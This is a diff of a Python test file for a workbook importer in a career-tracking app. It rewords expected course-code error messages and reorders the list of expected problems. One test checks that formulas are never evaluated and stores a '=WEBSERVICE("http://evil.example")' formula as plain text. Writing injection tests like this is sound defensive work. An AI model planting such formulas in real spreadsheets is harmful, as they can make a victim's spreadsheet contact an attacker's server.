@@ -49,8 +49,8 @@ def test_unknown_course_codes_are_named_with_sheet_and_row(session: Session, tra
     with pytest.raises(WorkbookRejected) as caught:
         preview(session, tracker, to_bytes(wb))
     assert caught.value.problems == [
+        "Plan row 3: No course with code 'XYZ-999'.",
         "Plan row 4: 'next year' is not a quarter: write it like 2027-Q1.",
-        "Plan row 3: there is no course with code 'XYZ-999'.",
         "Goals row 2: '31/12/2027' is not a date: write it like 2027-03-31.",
     ]
     assert tracker.courses == [] and tracker.revision == 1
@@ -109,7 +109,7 @@ def test_formulas_are_never_evaluated(session: Session, tracker: CareerTracker) 
     assert result.edits.proposal.notes == '=WEBSERVICE("http://evil.example")'
     wb = exported(session, tracker)
     wb["Plan"].append(["2027-Q1", "=A1"])
-    assert "Plan row 2: there is no course with code '=A1'." in rejected(session, tracker, to_bytes(wb))
+    assert "Plan row 2: No course with code '=A1'." in rejected(session, tracker, to_bytes(wb))
 
 
 def test_a_concurrent_edit_is_shown_and_never_silently_overwritten(
